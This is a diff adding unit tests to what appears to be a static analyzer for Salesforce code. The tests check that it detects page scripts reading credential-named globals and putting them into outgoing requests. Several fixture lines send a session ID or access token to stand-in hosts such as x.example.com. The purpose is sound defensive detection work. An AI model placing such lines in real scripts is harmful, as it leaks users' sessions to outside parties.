@@ -892,3 +892,53 @@ def test_a_component_keeping_apex_records_is_not_walked_for_its_template() -> No
                "  connectedCallback() { getRecords().then((r) => { this.records = r; }); }\n"
                "}\n", "force-app/main/default/lwc/l/l.js")
     assert ir.url_uses == ()
+
+
+def test_a_static_resource_script_reads_the_globals_a_page_may_keep_a_session_in() -> None:
+    """AF-4: a script a page loads reads what the page keeps in its globals (`var token =
+    '{!$Api.Session_ID}'`): a credential-named global it never sets stands for that, under a
+    stand-in the analysis replaces with the sessions of the pages that load the script."""
+    ir = lower("fetch('https://x.example.com/c?sid=' + token);\n"
+               "fetch('/a', {headers: {A: appConfig.accessToken}});\n"
+               "fetch('/b', {headers: {B: window.sid}});\n"
+               "fetch('https://r.example.com/?n=' + reportName + '&v=' + appConfig.version);\n")
+    assert [(u.span.start_line, u.sources) for u in ir.url_uses] == [
+        (1, ("client:global:token",)), (2, ("client:global:appconfig",)), (3, ("client:global:sid",))]
+    assert ir.url_uses[0].in_query and not ir.url_uses[1].in_query
+
+
+def test_a_script_s_own_names_and_other_scripts_are_not_page_globals() -> None:
+    own = lower("var token = 'x';\nfunction go(sid) { fetch('https://x.example.com/?s=' + sid + token); }\n"
+                "const send = accessToken => fetch('https://y.example.com/?t=' + accessToken);\n")
+    assert own.url_uses == ()
+    code = "fetch('https://x.example.com/c?sid=' + token);\n"
+    for path in ("lwc/widget/widget.js", "aura/Panel/PanelController.js", "scripts/build.js"):
+        assert lower(code, path).url_uses == (), path
+
+
+def test_whether_a_resource_script_reads_a_page_global_is_told_without_following_it() -> None:
+    """The flow runs over a static resource's script only when it may: jQuery declares every
+    credential-named name it reads, and names in comments, strings, calls, object keys and
+    members of other values are not reads of a global."""
+    from apexlint.lower.javascript import reads_page_global
+    assert reads_page_global(b"fetch('https://x.example.com/c?sid=' + token)")
+    assert reads_page_global(b"$.ajax({headers: {Authorization: 'Bearer ' + appConfig.accessToken}})")
+    assert reads_page_global(b"fetch('/x', {body: window.SESSION_ID})")
+    assert not reads_page_global(b"var token = 1; fetch(token)")
+    assert not reads_page_global(b"function f(a, token) { fetch(token) }")
+    assert not reads_page_global(b"const go = token => fetch(token)")
+    assert not reads_page_global(b"// the token\nfetch('/x')")
+    assert not reads_page_global(b"fetch('/x', {sessionId: 1, kind: 'token'})")
+    assert not reads_page_global(b"fetch(getToken()); fetch(f(x).token); fetch(inside + tokenizer)")
+    assert not reads_page_global(b"var s = token + 1;")  # no request
+
+
+def test_a_resource_script_and_the_url_a_page_loads_it_by_name_the_same_script() -> None:
+    from apexlint.ir import loaded_script, resource_script
+    assert resource_script("force-app/main/default/staticresources/helper.js") == "helper"
+    assert resource_script("src/staticresources/app.resource!/js/Main.js") == "app/js/main.js"
+    assert resource_script("force-app/main/default/staticresources/app/js/main.js") == "app/js/main.js"
+    assert resource_script("force-app/main/default/classes/A.cls") is None
+    assert loaded_script("{!$Resource.Helper}") == "helper"
+    assert loaded_script("{!URLFOR($Resource.app, '/js/main.js')}") == "app/js/main.js"
+    assert loaded_script("/soap/ajax/59.0/connection.js") is None
